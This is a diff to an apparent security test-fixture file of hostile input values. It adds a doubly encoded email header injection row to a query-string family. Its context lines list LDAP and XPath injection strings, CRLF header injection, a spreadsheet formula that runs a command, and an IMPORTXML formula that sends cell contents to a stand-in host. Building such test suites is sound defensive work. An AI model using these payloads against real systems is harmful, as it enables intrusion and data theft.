@@ -182,6 +182,7 @@ export const FIFTH_VALUES: readonly Family[] = [
     {
         name: "encodings, fifth",
         rows: [
+            ["query string", "mail=rei%40example.jp%250ABcc%3Aa%40x.example", "a mail's line, encoded twice"],
             ...rowsOf(
                 "json",
                 "a text within a text",
@@ -205,7 +206,6 @@ export const FIFTH_VALUES: readonly Family[] = [
                 "admin)(|(password=*))",
                 "' or string-length(name(/*[1]))=4 or 'a'='b",
                 "' or contains(/*/user[1]/pass,'a') or '",
-                "rei@example.jp%0ABcc:a@x.example",
                 "rei@example.jp\r\nContent-Type: text/html\r\n\r\n<b>a</b>",
                 "=cmd|' /C calc'!A0",
                 '=IMPORTXML(CONCAT("http://x.example/?v=",CONCATENATE(A1:C9)),"//a")',
